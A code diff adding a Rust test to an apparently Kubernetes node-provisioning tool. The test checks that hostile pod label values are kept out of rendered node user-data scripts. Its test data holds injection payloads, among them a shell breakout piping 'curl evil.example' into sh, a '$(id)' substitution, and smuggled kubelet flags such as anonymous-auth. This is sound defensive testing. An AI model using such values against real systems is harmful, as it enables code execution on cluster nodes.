@@ -255,6 +255,34 @@ fn nodes_of_a_converted_provisioner_have_the_labels_of_both_kinds() {
     assert_eq!(labels.get(labels::CAPACITY_TYPE).map(String::as_str), Some("spot"));
 }
 
+/// Labels may come from what pods ask for, whose preferences no API server validates.
+#[test]
+fn what_is_no_label_never_reaches_a_shell_or_a_kubelet() {
+    let odd = [
+        ("rack", "x' ; curl evil.example | sh ; '"),
+        ("rack", "x --anonymous-auth=true"),
+        ("rack", "x,node-role.kubernetes.io/control-plane="),
+        ("rack", "$(id)"),
+        ("rack", "a\nb"),
+        ("rack\" --anonymous-auth=true \"", "x"),
+        ("", "x"),
+    ];
+    for case in ["042-al2-shell.yaml", "054-al2023-shell.yaml", "073-windows2022-user-data.yaml"] {
+        let mut case = Case::read(&files("userdata", case)[0]);
+        let plain = rendered_case(&case).1.expect("the case has an answer");
+        for (key, value) in odd {
+            case.claim.as_mut().expect("the case has a claim").metadata.labels = [(key.to_owned(), value.to_owned())].into();
+            let (_, text) = rendered_case(&case);
+            let text = text.expect("the label is left out");
+            assert!(!text.contains("anonymous-auth") && !text.contains("curl") && !text.contains("control-plane"), "{text}");
+            assert!(!text.contains("rack") && !text.contains("$(id)"), "{text}");
+        }
+        case.claim.as_mut().expect("the case has a claim").metadata.labels = [("rack".to_owned(), "a".to_owned())].into();
+        let text = rendered_case(&case).1.expect("it is a label");
+        assert!(text.contains("rack=a") && !plain.contains("rack=a"), "{text}");
+    }
+}
+
 #[test]
 fn mime_archives_round_trip_and_malformed_ones_are_errors() {
     let parts = vec![Part::new("text/plain", "a\nb\n"), Part::new(shell::SHELL, "#!/bin/sh")];
